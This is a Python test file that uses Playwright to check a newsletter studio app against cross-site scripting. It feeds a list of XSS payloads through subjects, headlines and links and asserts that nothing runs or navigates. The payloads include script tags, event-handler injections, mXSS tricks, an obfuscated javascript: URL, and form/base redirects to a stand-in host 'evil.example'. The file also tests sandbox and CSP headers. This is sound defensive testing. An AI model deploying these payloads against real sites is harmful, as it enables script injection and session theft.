"""What others wrote runs nowhere in the studio (A22 to A28), in a real browser."""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import expect
from starlette.routing import Route

from newsletter.web.studio import app as studio_application
from newsletter.web.studio.rendition import framed_response

SLUG = "2026-11-27"
RUN = "top.ran=1;parent.ran=1;window.ran=1"
ATTACKS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f'<math><mtext><mglyph><style><!--</style><img src onerror="{RUN}">',
    f"<!--[if mso]><script>{RUN}</script><![endif]-->",
    f"--></title></style></textarea><script>{RUN}</script>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f'<a href="jav&#x09;ascript:{RUN}">x</a>',  # codespell:ignore
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "<form action=//evil.example><button autofocus>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href='//evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
]


def unmoved(page, address):
    """Whether nothing ran, and the page is where it was."""
    return page.evaluate("[window.ran, document.domain]") == [None, "127.0.0.1"] and (
        page.url.startswith(address)
    )


def test_a22_a23_no_attack_runs_wherever_the_studio_shows_it(studio, open_page):
    """In subject, preheader, titles, headlines and texts, on every page that shows them."""
    briefs = "".join(
        f"\n### {attack}\n\n{attack}\n\n[{attack.replace('[', '').replace(']', '')}](https://t.example.com/{n})\n"
        for n, attack in enumerate(ATTACKS)
    )
    studio.write(
        f"---\nsubject: {json.dumps(' '.join(ATTACKS))}\npreheader: {json.dumps(ATTACKS[0])}\n"
        f"date: 2026-11-27\nlist: weekly\n---\n\n{ATTACKS[1]}\n\n## {ATTACKS[0]}\n{briefs}"
    )
    page, asked = open_page("/"), []
    page.on("request", lambda request: asked.append(request.url))
    for path in (
        "/",
        f"/i/{SLUG}?width=all",
        f"/i/{SLUG}?part=file",
        f"/i/{SLUG}?part=html",
        f"/i/{SLUG}/findings",
    ):
        page.goto(studio.address + path)
        page.wait_for_timeout(150)
        page.mouse.move(500, 400)
        assert unmoved(page, studio.address), path
    assert {url[: len(studio.address)] for url in asked} <= {
        studio.address,
        "data:image/svg+xml,"[: len(studio.address)],
    }


@pytest.fixture
def bare(monkeypatch, studio_workspace):
    """A studio whose rendition is hostile itself, as if every guard before the frame had failed."""

    class Hostile:
        @staticmethod
        def routes(_):
            async def rendition(_):
                return framed_response(
                    f"<!DOCTYPE html><title>x</title><body>{''.join(ATTACKS)}</body>"
                )

            return [Route("/rendition/{slug}", rendition)]

    monkeypatch.setattr(studio_application, "SUBJECTS", (Hostile, *studio_application.SUBJECTS))


def test_a22_a_frame_runs_nothing_even_of_a_hostile_page(bare, studio, browser):
    page = browser.new_page()  # whose console may tell what was blocked
    try:
        page.goto(f"{studio.address}/i/{SLUG}?width=phone")
        expect(page.locator("iframe")).to_have_attribute("sandbox", "allow-same-origin")
        for address in (page.url, f"{studio.address}/rendition/{SLUG}"):
            page.goto(address)
            page.wait_for_timeout(300)
            assert unmoved(page, studio.address)
    finally:
        page.close()


def test_a22_a_rendition_forbids_everything_by_itself(studio):
    headers = studio.ask(f"/rendition/{SLUG}").headers
    policy = dict(
        directive.strip().partition(" ")[::2]
        for directive in headers["content-security-policy"].split(";")
    )
    assert policy == {
        "sandbox": "allow-same-origin",
        "default-src": "'none'",
        "img-src": "'self' data:",
        "style-src": "'unsafe-inline'",
        "base-uri": "'none'",
        "form-action": "'none'",
        "frame-ancestors": "'self'",
    }
    assert headers["x-content-type-options"] == "nosniff"


def test_a28_only_pictures_that_were_decoded_are_served(studio):
    """What is no picture by its bytes never becomes one, whatever it is called."""
    home = studio.file.parent / "images"
    home.mkdir()
    for name, content in (
        ("x.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"),
        ("x.png", "<html><script>x</script>"),
    ):
        (home / name).write_text(content, encoding="utf-8")
        text = re.sub(
            r"Good morning\.|!\[x\]\(\S+\)", f"![x](images/{name})", studio.file.read_text("utf-8")
        )
        studio.write(text)
        page = studio.ask(f"/i/{SLUG}").text
        told = page[page.index('class="wrong"') :][:900]
        assert f"images/{name}" in told
        assert "is no PNG, JPEG, GIF or WebP picture" in told, name
        assert studio.ask(f"/images/{name}").status_code == 404
